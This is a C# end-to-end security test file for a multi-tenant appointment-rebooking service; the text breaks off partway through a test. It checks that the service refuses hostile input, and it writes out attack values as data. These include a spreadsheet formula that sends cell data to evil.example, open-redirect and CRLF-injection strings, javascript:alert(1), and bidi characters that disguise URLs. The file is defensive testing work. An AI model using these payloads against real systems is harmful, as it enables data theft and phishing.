using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Dapper;
using Microsoft.Data.Sqlite;
using Rebooking.Tenants;
using Rebooking.Tests.Support;

namespace Rebooking.Tests.EndToEnd;

/// <summary>
/// What a hostile review tried, as classes of attack, each with several variants, against the real Api process
/// (behind a trusted proxy on loopback, logging everything at Information). Every refused request is checked in
/// the database: nothing stored.
/// </summary>
[NonParallelizable]
public sealed class HostileInputTests
{
    const string Password = "correct horse battery";
    const string Velbert = "velbert";
    const string Hattingen = "hattingen";
    const string Castrop = DemoTenant.Slug;

    string directory = "";
    string baseUrl = "";
    int metricsPort;
    AppProcess api = null!;
    HttpClient admin = null!;
    string velbertAdmin = "", hattingenAdmin = "", velbertClerk = "";
    PlainHttpBrowser clerk = null!;
    DateTime day;
    Guid velbertOutage, hattingenOutage, csvOutage;
    /// <summary>Every link token the service issued, with its tenant.</summary>
    readonly Dictionary<string, string> tokens = [];

    [OneTimeSetUp]
    public async Task StartTheServiceWithTwoTenantsAndTheirMessages()
    {
        directory = Directory.CreateTempSubdirectory("rebooking-hostile-").FullName;
        baseUrl = $"http://127.0.0.1:{AppProcess.FreePort()}";
        metricsPort = AppProcess.FreePort();
        api = AppProcess.Start("Rebooking.Api", directory, new Dictionary<string, string?>
        {
            ["Demo__AdminApiKey"] = RebookingApp.AdminKey, ["Demo__StaffPassword"] = Password,
            ["Worker__PollInterval"] = "00:00:00.200",
            ["Logging__LogLevel__Default"] = "Information", ["Logging__LogLevel__Microsoft"] = "Information",
            ["Logging__LogLevel__Microsoft.AspNetCore"] = "Information", ["Logging__LogLevel__Microsoft.AspNetCore.Hosting.Diagnostics"] = "Information",
            ["Metrics__Port"] = metricsPort.ToString(),
            ["ForwardedHeaders__KnownProxies__0"] = "127.0.0.1",
            ["RateLimits__CitizensPerMinute"] = "25", ["RateLimits__StatusPagePerMinute"] = "20", ["RateLimits__SignInPerMinutePerAddress"] = "8",
            ["RateLimits__SignInPerMinutePerAccount"] = "6", ["RateLimits__TwilioWebhookPerMinute"] = "20",
        }, "--urls", baseUrl);
        await api.WaitForHealthyAsync(baseUrl + "/health", TimeSpan.FromSeconds(60));
        admin = new HttpClient { BaseAddress = new Uri(baseUrl) };
        admin.DefaultRequestHeaders.Add("X-Api-Key", RebookingApp.AdminKey);

        day = DateTime.UtcNow.Date.AddDays(10);
        foreach (var (tenant, name, digit) in new[] { (Velbert, "Stadt Velbert", 1), (Hattingen, "Stadt Hattingen", 2) })
        {
            Assert.That((await admin.PutAsJsonAsync($"/api/tenants/{tenant}", RebookingApp.TenantBody(name))).IsSuccessStatusCode, Is.True);
            var imported = await admin.PostAsJsonAsync($"/api/tenants/{tenant}/bookings/import", Enumerable.Range(1, 3).Select(i => new
            {
                externalRef = $"{tenant}-{i}", officeId = "mitte", serviceId = "personalausweis", start = At(8, i * 15), end = At(8, i * 15 + 15),
                name = $"Bürger {tenant} {i}", phone = $"0172 {digit}00000{i}", language = "de",
            }).ToArray());
            Assert.That(imported.IsSuccessStatusCode, Is.True, await imported.Content.ReadAsStringAsync());
        }
        // The call list's hostile names: citizens without a usable contact, so they land on the hotline's list.
        var hostile = await admin.PostAsJsonAsync($"/api/tenants/{Castrop}/bookings/import", new object[]
        {
            CsvRow("=EXT1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")", null),
            CsvRow("+EXT2", "+SUM(1;2)", null),
            CsvRow("-EXT3", "-2+3", null),
            CsvRow("@EXT4", "@SUM(A1:A9)", null),
            CsvRow("EXT5", "  =1+1", null),
            CsvRow("EXT6", "Erika Mustermann", "02305 106-0"),
        });
        Assert.That((await hostile.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("imported").GetInt32(), Is.EqualTo(6), await hostile.Content.ReadAsStringAsync());

        velbertOutage = await DeclareAsync(admin, Velbert, At(7), At(12));
        hattingenOutage = await DeclareAsync(admin, Hattingen, At(7), At(12));
        csvOutage = await DeclareAsync(admin, Castrop, At(6), At(7), offices: ["rathaus"]);

        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (tokens.Count < 6 && DateTime.UtcNow < deadline)
        {
            await Task.Delay(250);
            foreach (var message in (await admin.GetFromJsonAsync<JsonElement>("/api/dev/outbox")).EnumerateArray())
                tokens[Scenario.LinkToken(message.GetProperty("body").GetString()!)] = message.GetProperty("to").GetString()!.StartsWith("+491721") ? Velbert : Hattingen;
        }
        Assert.That(tokens, Has.Count.EqualTo(6), api.Output);
        while (DateTime.UtcNow < deadline && await Scalar<int>("SELECT COUNT(*) FROM affected_bookings WHERE outage_id = @Id AND contact = 'unreachable'", new { Id = csvOutage.ToString() }) < 6)
            await Task.Delay(250);

        velbertAdmin = await KeyAsync("admin", Velbert);
        hattingenAdmin = await KeyAsync("admin", Hattingen);
        velbertClerk = await KeyAsync("clerk", Velbert);

        clerk = new PlainHttpBrowser(baseUrl, "192.0.2.10");
        var signedIn = await clerk.SubmitAsync("/staff/login", "/staff/login", ("email", DemoTenant.ClerkEmail), ("password", Password), ("returnUrl", "/staff"));
        Assert.That(signedIn.StatusCode, Is.EqualTo(HttpStatusCode.Redirect), await signedIn.Content.ReadAsStringAsync());
    }

    [OneTimeTearDown]
    public async Task Stop()
    {
        clerk?.Dispose();
        admin?.Dispose();
        if (api is not null) await api.DisposeAsync();
        try { Directory.Delete(directory, true); } catch (IOException) { }
    }

    // ---- 1. Cross-tenant reads outside /api/tenants/{tenant} ----

    [Test]
    public async Task EveryRouteOutsideTheTenantPath_ShowsACallerOnlyItsOwnTenants()
    {
        // The development outbox: each tenant's admin sees its own messages only; the all-tenant admin sees all.
        var velbertMessages = await OutboxAsync(velbertAdmin);
        var hattingenMessages = await OutboxAsync(hattingenAdmin);
        Assert.That(velbertMessages, Has.Count.EqualTo(3));
        Assert.That(velbertMessages.Select(m => m.GetProperty("to").GetString()), Has.All.StartWith("+491721"));
        Assert.That(hattingenMessages, Has.Count.EqualTo(3));
        Assert.That(hattingenMessages.Select(m => m.GetProperty("to").GetString()), Has.All.StartWith("+491722"));
        Assert.That(velbertMessages.Select(Token), Is.EquivalentTo(tokens.Where(t => t.Value == Velbert).Select(t => t.Key)));
        Assert.That(await OutboxAsync(RebookingApp.AdminKey), Has.Count.EqualTo(6));
        Assert.That((await With(velbertClerk).GetAsync("/api/dev/outbox")).StatusCode, Is.EqualTo(HttpStatusCode.Forbidden), "clerks never read it");
        Assert.That((await new HttpClient().GetAsync(baseUrl + "/api/dev/outbox")).StatusCode, Is.EqualTo(HttpStatusCode.Unauthorized));

        // Regional incidents and API keys name tenants in the body: another tenant is refused and nothing stored.
        var outages = await Scalar<int>("SELECT COUNT(*) FROM outages");
        var keys = await Scalar<int>("SELECT COUNT(*) FROM api_keys");
        foreach (var tenants in new[] { new[] { Hattingen }, [Velbert, Hattingen], [Castrop] })
        {
            var regional = await With(velbertAdmin).PostAsJsonAsync("/api/outages", new
            {
                start = At(13), end = At(14), reason = "Test", publicMessage = "Test", tenants,
            });
            Assert.That(regional.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden), string.Join(",", tenants));
        }
        foreach (var tenant in new[] { Hattingen, "*", Castrop })
            Assert.That((await With(velbertAdmin).PostAsJsonAsync("/api/apikeys", new { role = "admin", tenant, label = "x" })).StatusCode,
                Is.EqualTo(HttpStatusCode.Forbidden), tenant);
        Assert.That(await Scalar<int>("SELECT COUNT(*) FROM outages"), Is.EqualTo(outages));
        Assert.That(await Scalar<int>("SELECT COUNT(*) FROM api_keys"), Is.EqualTo(keys));

        // The console: the overview and every page by outage id answer 403 for another tenant's outage.
        var overview = await clerk.GetStringAsync("/staff");
        Assert.That(overview, Does.Not.Contain("Velbert").And.Not.Contain("Hattingen"));
        foreach (var path in new[]
        {
            "/staff/tenants/velbert", "/staff/tenants/velbert/live", $"/staff/outages/{velbertOutage}", $"/staff/outages/{velbertOutage}/live",
            $"/staff/outages/{velbertOutage}/calls", $"/staff/outages/{velbertOutage}/calls.csv", "/staff/tenants/velbert/hotline?q=B",
            "/staff/tenants/velbert/outages/new", $"/staff/outages/{hattingenOutage}",
        })
            Assert.That((await clerk.GetAsync(path)).StatusCode, Is.EqualTo(HttpStatusCode.Forbidden), path);
    }

    // ---- 2. Tokens in logs, metrics and exception messages ----

    [Test]
    public async Task LogsAtInformationForEveryCategory_AndTheMetrics_HoldNoLinkToken()
    {
        using var citizen = new PlainHttpBrowser(baseUrl, "198.51.100.20");
        var (token, other) = (tokens.Keys.First(), tokens.Keys.Last());
        var madeUp = "Xq7" + Guid.NewGuid().ToString("N");
        foreach (var path in new[]
        {
            $"/r/{token}", $"/R/{token}?lang=en", $"//r/{token}", $"/r/{token}/", $"/%72/{token}", $"/r/{madeUp}", $"/api/rebook/{token}",
            $"/API/Rebook/{other}", $"/api/rebook/{madeUp}/decline", $"/r/{token}%0A", $"/r/{token}/nothing-here",
        })
            Assert.That((int)(await citizen.GetAsync(path)).StatusCode, Is.LessThan(500), path);
        // Posts: the form without its antiforgery token, a body that is not JSON (an exception inside the framework),
        // a slot that does not exist, and a real decline whose redirect carries the token.
        await citizen.PostFormAsync($"/r/{token}/book", ("slotId", "1"));
        await citizen.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/api/rebook/{other}") { Content = new StringContent("{not json", Encoding.UTF8, "application/json") });
        await citizen.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/api/rebook/{other}") { Content = JsonContent.Create(new { slotId = "999999" }) });
        var declined = await citizen.SubmitAsync($"/r/{other}", $"/r/{other}/decline");
        Assert.That(declined.StatusCode, Is.EqualTo(HttpStatusCode.SeeOther));
        Assert.That(declined.Headers.Location!.OriginalString, Does.Contain(other), "the citizen is sent back to the page");

        await Task.Delay(500);
        var log = api.Output;
        Assert.That(log, Does.Contain("Request starting").And.Contain("/r/[token]").And.Contain("/api/rebook/[token]"),
            "the requests were logged, with the token redacted");
        foreach (var issued in tokens.Keys.Append(madeUp))
            Assert.That(log, Does.Not.Contain(issued), "a token in the log");

        using var scrape = new HttpClient();
        var metrics = await scrape.GetStringAsync($"http://localhost:{metricsPort}/metrics");
        Assert.That(metrics, Does.Contain("http_server_request_duration_seconds"));
        foreach (var issued in tokens.Keys.Append(madeUp))
            Assert.That(metrics, Does.Not.Contain(issued), "a token in a metric label");
    }

    // ---- 3. CSV formula injection ----

    [Test]
    public async Task EveryCsvExport_FromTheApiAndTheConsole_HasNoFormulaCell()
    {
        var request = new HttpRequestMessage(HttpMethod.Get, $"/api/tenants/{Castrop}/outages/{csvOutage}/unreachable");
        request.Headers.Accept.ParseAdd("text/csv");
        var fromApi = await (await admin.SendAsync(request)).Content.ReadAsByteArrayAsync();
        var fromConsole = await (await clerk.GetAsync($"/staff/outages/{csvOutage}/calls.csv")).Content.ReadAsByteArrayAsync();
        foreach (var (source, bytes) in new[] { ("api", fromApi), ("console", fromConsole) })
        {
            var rows = ParseCsv(Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF'));
            Assert.That(rows, Has.Count.EqualTo(7), source);
            foreach (var cell in rows.SelectMany(r => r))
                Assert.That(cell.TrimStart(' '), Does.Not.Match("^[=+\\-@\t\r]"), $"{source}: formula cell {cell}");
            var names = rows.Skip(1).Select(r => r[1]).ToList();
            Assert.That(names, Does.Contain("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")").And.Contain("'+SUM(1;2)").And.Contain("'-2+3")
                .And.Contain("'@SUM(A1:A9)").And.Contain("'=1+1").And.Contain("Erika Mustermann"), source);
            Assert.That(rows.Skip(1).Select(r => r[0]), Does.Contain("'=EXT1").And.Contain("'+EXT2"), source);
            Assert.That(rows.Single(r => r[0] == "EXT6")[2], Is.EqualTo("0049 23051060"), $"{source}: the number reads and dials as a number");
        }
    }

    // ---- 4. Open redirects ----

    [Test]
    public async Task ReturnUrls_FromATableOfVariants_OnlyEverLeadIntoTheConsole()
    {
        string[] hostile =
        [
            "/%09/evil.example", "/%0A/evil.example", "/%0D/evil.example", "/%0D%0ALocation:%20https://evil.example", "//evil.example",
            "/%5Cevil.example", "%5C%5Cevil.example", "/%5C/evil.example", "https://evil.example", "http:evil.example", "javascript:alert(1)",
            "%20/staff", "/%20/evil.example", "%2F%2Fevil.example", "/%252F%252Fevil.example", "/%E2%80%AE/elpmaxe.live", "/staff%00",
            "/staff/%09", "/r/sometoken", "/api/dev/outbox", "", "%00",
        ];
        using var browser = new PlainHttpBrowser(baseUrl, "198.51.100.40");
        foreach (var returnUrl in hostile)
        {
            var language = await browser.GetAsync($"/staff/language?to=en&returnUrl={returnUrl}");
            Assert.That(language.StatusCode, Is.EqualTo(HttpStatusCode.Redirect), returnUrl);
            Assert.That(language.Headers.Location!.OriginalString, Is.EqualTo("/staff"), returnUrl);
            var login = await browser.GetAsync($"/staff/login?returnUrl={returnUrl}");
            Assert.That(login.StatusCode, Is.EqualTo(HttpStatusCode.OK), returnUrl);
            Assert.That(await login.Content.ReadAsStringAsync(), Does.Contain("name=\"returnUrl\" value=\"/staff\""), returnUrl);
        }
        foreach (var local in new[] { "/staff/tenants/castrop-rauxel", "/staff/outages/1?x=1", "/staff" })
            Assert.That((await browser.GetAsync($"/staff/language?to=de&returnUrl={Uri.EscapeDataString(local)}")).Headers.Location!.OriginalString,
                Is.EqualTo(local));

        // Signing in with a hostile return URL (posted, not in the query) lands in the console.
        using var signIn = new PlainHttpBrowser(baseUrl, "198.51.100.41");
        var answer = await signIn.SubmitAsync("/staff/login", "/staff/login", ("email", DemoTenant.ClerkEmail), ("password", Password), ("returnUrl", "/\t/evil.example"));
        Assert.That(answer.StatusCode, Is.EqualTo(HttpStatusCode.Redirect));
        Assert.That(answer.Headers.Location!.OriginalString, Is.EqualTo("/staff"));
    }

    // ---- 5. Long windows by PATCH and by the console; a resolution before the start ----

    [Test]
    public async Task LongWindows_ByPatchAndByTheConsole_NeedTheConfirmation_AsDeclaringDoes()
    {
        var outage = await DeclareAsync(admin, Velbert, At(14), At(15), notify: false);
        var stored = await EndOf(outage);
        var start = day.AddHours(14);
        foreach (var (end, field) in new[] { (start.AddYears(10), "end"), (start.AddDays(32), "end"), (start.AddDays(31).AddMinutes(1), "end"), (start.AddHours(-1), "end") })
        {
            var refused = await admin.PatchAsJsonAsync($"/api/tenants/{Velbert}/outages/{outage}", new { end = Iso(end) });
            Assert.That(refused.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest), Iso(end));
            Assert.That((await refused.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").TryGetProperty(field, out _), Is.True);
            Assert.That(await EndOf(outage), Is.EqualTo(stored), "nothing stored");
        }
        var exactly31 = await admin.PatchAsJsonAsync($"/api/tenants/{Velbert}/outages/{outage}", new { end = Iso(start.AddDays(31)) });
        Assert.That(exactly31.StatusCode, Is.EqualTo(HttpStatusCode.OK), "31 days is not long");
        var confirmed = await admin.PatchAsJsonAsync($"/api/tenants/{Velbert}/outages/{outage}", new { end = Iso(start.AddDays(60)), confirmLongWindow = true });
        Assert.That(confirmed.StatusCode, Is.EqualTo(HttpStatusCode.OK), await confirmed.Content.ReadAsStringAsync());
        var beyond = await admin.PostAsJsonAsync($"/api/tenants/{Velbert}/outages/{outage}/resolve", new { at = Iso(start.AddDays(61)) });
        Assert.That(beyond.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest), "resolving after the end is refused");

        // The console's "change end": the same rule, the same confirmation.
        var castrop = await DeclareAsync(admin, Castrop, At(16), At(17), notify: false);
        var before = await EndOf(castrop);
        var page = $"/staff/outages/{castrop}";
        var local = TimeZoneInfo.ConvertTimeFromUtc(day.AddHours(16).AddDays(40), TimeZoneInfo.FindSystemTimeZoneById("Europe/Berlin")).ToString("yyyy-MM-dd'T'HH:mm");
        var unconfirmed = await clerk.SubmitAsync(page, $"{page}/end", ("end", local));
        Assert.That(unconfirmed.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest));
        Assert.That(WebUtility.HtmlDecode(await unconfirmed.Content.ReadAsStringAsync()), Does.Contain("mehr als 31 Tage"));
        Assert.That(await EndOf(castrop), Is.EqualTo(before), "nothing stored");
        var withConfirmation = await clerk.SubmitAsync(page, $"{page}/end", ("end", local), ("confirmLongWindow", "true"));
        Assert.That(withConfirmation.StatusCode, Is.EqualTo(HttpStatusCode.Redirect));
        Assert.That(await EndOf(castrop), Is.Not.EqualTo(before));

        // Declaring in the console: the same confirmation; without it nothing is stored.
        var outagesBefore = await Scalar<int>("SELECT COUNT(*) FROM outages");
        var declareForm = $"/staff/tenants/{Castrop}/outages/new";
        var from = TimeZoneInfo.ConvertTimeFromUtc(day.AddHours(20), TimeZoneInfo.FindSystemTimeZoneById("Europe/Berlin"));
        (string, string)[] longDeclaration = [("start", from.ToString("yyyy-MM-dd'T'HH:mm")), ("end", from.AddDays(45).ToString("yyyy-MM-dd'T'HH:mm")),
            ("reason", "Umzug"), ("publicMessage", "Das Amt zieht um."), ("notify", "true")];
        foreach (var step in new[] { "preview", "" })
        {
            var refusedDeclaration = await clerk.SubmitAsync(declareForm, $"/staff/tenants/{Castrop}/outages{(step == "" ? "" : "/" + step)}", longDeclaration);
            Assert.That(refusedDeclaration.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest), step);
            Assert.That(WebUtility.HtmlDecode(await refusedDeclaration.Content.ReadAsStringAsync()), Does.Contain("mehr als 31 Tage"));
        }
        var confirmedPreview = await clerk.SubmitAsync(declareForm, $"/staff/tenants/{Castrop}/outages/preview", [.. longDeclaration, ("confirmLongWindow", "true")]);
        Assert.That(confirmedPreview.StatusCode, Is.EqualTo(HttpStatusCode.OK));
        Assert.That(await confirmedPreview.Content.ReadAsStringAsync(), Does.Contain("name=\"confirmLongWindow\" value=\"true\""), "the preview carries the confirmation");
        Assert.That(await Scalar<int>("SELECT COUNT(*) FROM outages"), Is.EqualTo(outagesBefore), "nothing stored");

        // Resolving before the start: called off, not "16:00 – 16:00".
        var resolved = await clerk.SubmitAsync(page, $"{page}/resolve");
        Assert.That(resolved.StatusCode, Is.EqualTo(HttpStatusCode.Redirect));
        var shown = WebUtility.HtmlDecode(await clerk.GetStringAsync(page));
        Assert.That(shown, Does.Contain("Vor Beginn abgesagt"));
        Assert.That(WebUtility.HtmlDecode(await clerk.GetStringAsync($"/staff/tenants/{Castrop}")), Does.Contain("Vor Beginn abgesagt"));
    }

    // ---- 6. Citizen forms without antiforgery token ----

    [Test]
    public async Task BothCitizenForms_WithoutTheirAntiforgeryToken_AreRefusedAndChangeNothing()
    {
        var token = tokens.First(t => t.Value == Hattingen).Key;
        using var attacker = new PlainHttpBrowser(baseUrl, "198.51.100.60");
        var outcomes = await Scalar<string>("SELECT group_concat(outcome || ':' || coalesce(new_booking_id, '')) FROM affected_bookings");
        var slotId = (await admin.GetFromJsonAsync<JsonElement>($"/api/rebook/{token}")).GetProperty("offers") is { ValueKind: JsonValueKind.Array } offers
            && offers.GetArrayLength() > 0 ? offers[0].GetProperty("slotId").GetString()! : "1";
        foreach (var (action, fields) in new[] { ("decline", Array.Empty<(string, string)>()), ("book", [("slotId", slotId)]) })
        {
            // No token at all; a made-up token; a real token from another visitor's page (its cookie is not ours).
            using var other = new PlainHttpBrowser(baseUrl, "198.51.100.61");
            var theirs = ConsoleSession.Token(await other.GetStringAsync($"/r/{token}"));
            foreach (var antiforgery in new[] { null, "CfDJ8made-up", theirs })
            {
                var form = antiforgery is null ? fields : [("__RequestVerificationToken", antiforgery), .. fields];
                var answer = await attacker.PostFormAsync($"/r/{token}/{action}", form);
                Assert.That(answer.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest), $"{action} with {antiforgery ?? "no token"}");
            }
            var empty = await attacker.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/r/{token}/{action}"));
            Assert.That((int)empty.StatusCode, Is.InRange(400, 499), $"{action} without a body");
        }
        Assert.That(await Scalar<string>("SELECT group_concat(outcome || ':' || coalesce(new_booking_id, '')) FROM affected_bookings"), Is.EqualTo(outcomes), "nothing changed");
    }

    // ---- 7. Rate-limit policies and forwarded headers ----

    [Test]
    public async Task AFloodOnOnePolicy_LeavesTheOthersUsable_CountedByTheRealClientAddress()
    {
        async Task<int> Flood(PlainHttpBrowser from, Func<PlainHttpBrowser, Task<HttpResponseMessage>> send, int times)
        {
            var limited = 0;
            for (var i = 0; i < times; i++)
                if ((await send(from)).StatusCode == HttpStatusCode.TooManyRequests) limited++;
            return limited;
        }
        Task<HttpResponseMessage> Citizen(PlainHttpBrowser b) => b.GetAsync("/r/not-a-real-token");
        Task<HttpResponseMessage> Status(PlainHttpBrowser b) => b.GetAsync($"/status/{Velbert}");
        Task<HttpResponseMessage> Twilio(PlainHttpBrowser b) => b.PostFormAsync("/webhooks/twilio/status", ("MessageSid", "SM1"), ("MessageStatus", "delivered"));
        async Task<HttpResponseMessage> SignIn(PlainHttpBrowser b) =>
            await b.SubmitAsync("/staff/login", "/staff/login", ("email", $"nobody{Guid.NewGuid():N}@example.org"), ("password", "wrong"));

        var policies = new (string Name, Func<PlainHttpBrowser, Task<HttpResponseMessage>> Send, int Limit)[]
        {
            ("citizens", Citizen, 25), ("status", Status, 20), ("twilio", Twilio, 20), ("sign-in", SignIn, 8),
        };
        for (var p = 0; p < policies.Length; p++)
        {
            using var town = new PlainHttpBrowser(baseUrl, $"203.0.113.{70 + p}");
            Assert.That(await Flood(town, policies[p].Send, policies[p].Limit + 3), Is.EqualTo(3), policies[p].Name);
            foreach (var (name, send, _) in policies.Where((_, i) => i != p))
                Assert.That((await send(town)).StatusCode, Is.Not.EqualTo(HttpStatusCode.TooManyRequests), $"{name} after a flood on {policies[p].Name}");
            // Behind the trusted proxy, another client address has its own bucket.
            using var neighbour = new PlainHttpBrowser(baseUrl, $"203.0.113.{170 + p}");
            Assert.That((await policies[p].Send(neighbour)).StatusCode, Is.Not.EqualTo(HttpStatusCode.TooManyRequests), $"{policies[p].Name} from another address");
        }

        // Per account: attempts on one address from many client addresses are limited too, unknown or not.
        var limitedForAccount = 0;
        for (var i = 0; i < 8; i++)
        {
            using var somewhere = new PlainHttpBrowser(baseUrl, $"203.0.113.{200 + i}");
            var answer = await somewhere.SubmitAsync("/staff/login", "/staff/login", ("email", "target@nowhere.example"), ("password", $"guess {i}"));
            if (answer.StatusCode == HttpStatusCode.TooManyRequests) limitedForAccount++;
        }
        Assert.That(limitedForAccount, Is.EqualTo(2), "six attempts per account and minute");
    }

    [Test]
    public async Task ForwardedFor_FromAPeerThatIsNoConfiguredProxy_IsNotBelieved()
    {
        var other = Directory.CreateTempSubdirectory("rebooking-hostile-direct-").FullName;
        var url = $"http://127.0.0.1:{AppProcess.FreePort()}";
        await using var direct = AppProcess.Start("Rebooking.Api", other, new Dictionary<string, string?>
        {
            ["Demo__AdminApiKey"] = RebookingApp.AdminKey, ["Demo__Seed"] = "false", ["RateLimits__CitizensPerMinute"] = "5",
        }, "--urls", url);
        await direct.WaitForHealthyAsync(url + "/health", TimeSpan.FromSeconds(60));
        var statuses = new List<HttpStatusCode>();
        for (var i = 0; i < 8; i++)
        {
            using var spoofing = new PlainHttpBrowser(url, $"198.18.0.{i}, 10.0.0.{i}");
            statuses.Add((await spoofing.GetAsync("/r/not-a-real-token")).StatusCode);
        }
        Assert.That(statuses.Count(s => s == HttpStatusCode.TooManyRequests), Is.EqualTo(3), "every spoofed address shares the peer's bucket");
        try { Directory.Delete(other, true); } catch (IOException) { }
    }

    [Test]
    public async Task SignIn_UnknownWrongAndLockedAccounts_LookTheSame_AndTheLockIsLoggedForAnAdmin()
    {
        using var browser = new PlainHttpBrowser(baseUrl, "198.51.100.80");
        async Task<(HttpStatusCode, string)> Attempt(string email, string password)
        {
            var answer = await browser.SubmitAsync("/staff/login", "/staff/login", ("email", email), ("password", password));
            var html = WebUtility.HtmlDecode(await answer.Content.ReadAsStringAsync());
            return (answer.StatusCode, System.Text.RegularExpressions.Regex.Match(html, "id=\"signin-error\">([^<]*)<").Groups[1].Value);
        }
        var unknown = await Attempt("nobody@castrop-rauxel.demo", "wrong password");
        var wrong = await Attempt(DemoTenant.SupervisorEmail, "wrong password");
        for (var i = 0; i < 4; i++) await Attempt(DemoTenant.SupervisorEmail, "wrong password");
        var locked = await Attempt(DemoTenant.SupervisorEmail, Password);
        Assert.That(await Scalar<int>("SELECT COUNT(*) FROM staff_accounts WHERE email = @Email AND locked_until IS NOT NULL", new { Email = DemoTenant.SupervisorEmail }), Is.EqualTo(1));
        Assert.That(unknown.Item1, Is.EqualTo(HttpStatusCode.Unauthorized));
        Assert.That(wrong, Is.EqualTo(unknown));
        Assert.That(locked, Is.EqualTo(unknown), "a locked account answers like an unknown one");
        Assert.That(unknown.Item2, Does.Contain("gesperrt").And.Contain("Administration"), "the holder learns where to ask");
        await Task.Delay(300);
        Assert.That(api.Output, Does.Contain("is locked after too many failed attempts"));
        Assert.That(api.Output, Does.Not.Contain(DemoTenant.SupervisorEmail), "the address is masked in the log");
    }

    // ---- 8. Control characters at every input ----

    [Test]
    public async Task ControlAndBidiCharacters_AtEveryInput_AreRefusedAndStoreNothing()
    {
        string[] hostile = ["A\u0000B", "A\u0007B", "A\u001bB", "A\tB", "A\u007fB", "A\u0085B", "A\u202eB", "A\u202aB", "A\u2066B", "A\u2069B"];
        var counts = await CountsAsync();
        foreach (var bad in hostile)
        {
            var label = $"U+{(int)bad[1]:X4}";
            await Refused(await admin.PostAsJsonAsync($"/api/tenants/{Velbert}/outages", Outage(reason: bad)), "reason", label);
            await Refused(await admin.PostAsJsonAsync($"/api/tenants/{Velbert}/outages", Outage(publicMessage: "Bitte " + bad + " https://velbert.de")), "publicMessage", label);
            await Refused(await admin.PostAsJsonAsync($"/api/tenants/{Velbert}/outages/preview", Outage(publicMessage: bad)), "publicMessage", label);
            await Refused(await admin.PostAsJsonAsync("/api/outages", new
            {
                start = At(13), end = At(14), reason = "x", publicMessage = bad, tenants = new[] { Velbert },
            }), "publicMessage", label);
            await Refused(await admin.PatchAsJsonAsync($"/api/tenants/{Velbert}/outages/{velbertOutage}", new { publicMessage = bad }), "publicMessage", label);
            await Refused(await admin.PostAsJsonAsync("/api/apikeys", new { role = "clerk", tenant = Velbert, label = bad }), "label", label);
            await Refused(await admin.PutAsJsonAsync("/api/tenants/neustadt", new
            {
                name = "Stadt Neustadt", timeZone = "Europe/Berlin", defaultCountryCode = "49",
                contact = new { phone = "0123 4567", email = "a@neustadt.example", web = "https://neustadt.example" },
                offices = new[] { new { id = "mitte", name = "Mitte", address = bad } },
                services = new[] { new { id = "pass", name = "Pass", durationMinutes = 15 } },
            }), "offices[0].address", label);
            await Refused(await admin.PutAsJsonAsync("/api/tenants/neustadt", new
            {
                name = bad, timeZone = "Europe/Berlin", defaultCountryCode = "49",
                contact = new { phone = "0123 4567", email = "a@neustadt.example", web = "https://neustadt.example" },
                offices = new[] { new { id = "mitte", name = "Mitte", address = "Markt 1" } },
                services = new[] { new { id = "pass", name = "Pass", durationMinutes = 15 } },
            }), "name", label);

            var import = await admin.PostAsJsonAsync($"/api/tenants/{Velbert}/bookings/import", new[]
            {
                new { externalRef = "CTL-1", officeId = "mitte", serviceId = "personalausweis", start = At(9), end = At(9, 15), name = "Max " + bad, phone = "0172 5555555", language = "de" },
                new { externalRef = "CTL-2" + bad, officeId = "mitte", serviceId = "personalausweis", start = At(9), end = At(9, 15), name = "Max", phone = "0172 5555555", language = "de" },
            });
            var errors = (await import.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").EnumerateArray()
                .Select(e => (e.GetProperty("index").GetInt32(), e.GetProperty("field").GetString())).ToList();
            Assert.That(errors, Does.Contain((0, "name")).And.Contain((1, "externalRef")), label);
            var csv = await admin.PostAsync($"/api/tenants/{Velbert}/bookings/import", new StringContent(
                $"externalRef,officeId,serviceId,start,end,name,phone,language\nCTL-3,mitte,personalausweis,{At(9)},{At(9, 15)},\"Max {bad}\",0172 5555555,de\n",
                Encoding.UTF8, "text/csv"));
            Assert.That((await csv.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").GetArrayLength(), Is.EqualTo(1), label + " in CSV");
        }
        var lineBreaks = await admin.PostAsJsonAsync($"/api/tenants/{Velbert}/outages/preview", Outage(publicMessage: "Zeile 1\r\nZeile 2"));
        Assert.That(lineBreaks.StatusCode, Is.EqualTo(HttpStatusCode.OK), "line breaks are allowed in the message");

        // The console's form: the same rule, shown under the field.
        var form = $"/staff/tenants/{Castrop}/outages/new";
        var local = TimeZoneInfo.ConvertTimeFromUtc(day.AddHours(18), TimeZoneInfo.FindSystemTimeZoneById("Europe/Berlin"));
        var consoleAnswer = await clerk.SubmitAsync(form, $"/staff/tenants/{Castrop}/outages", ("start", local.ToString("yyyy-MM-dd'T'HH:mm")),
            ("end", local.AddHours(1).ToString("yyyy-MM-dd'T'HH:mm")), ("reason", "Netz"), ("publicMessage", "Bitte \u202e moc.live besuchen"), ("notify", "true"));
        Assert.That(consoleAnswer.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest));
        Assert.That(WebUtility.HtmlDecode(await consoleAnswer.Content.ReadAsStringAsync()), Does.Contain("Steuerzeichen"));
        Assert.That(await CountsAsync(), Is.EqualTo(counts), "nothing stored");
    }

    // ---- 9. Headers on every kind of response ----

    [Test]
    public async Task EveryKindOfResponse_SaysNosniff_NamesNoServer_AndTheAntiforgeryCookieIsSecure()
    {
        using var anonymous = new PlainHttpBrowser(baseUrl, "198.51.100.90");
        var token = tokens.Keys.First();
        var answers = new List<(string Kind, HttpResponseMessage Answer)>
        {
            ("json", await admin.GetAsync($"/api/tenants/{Velbert}")),
            ("json list", await admin.GetAsync($"/api/tenants/{Velbert}/outages")),
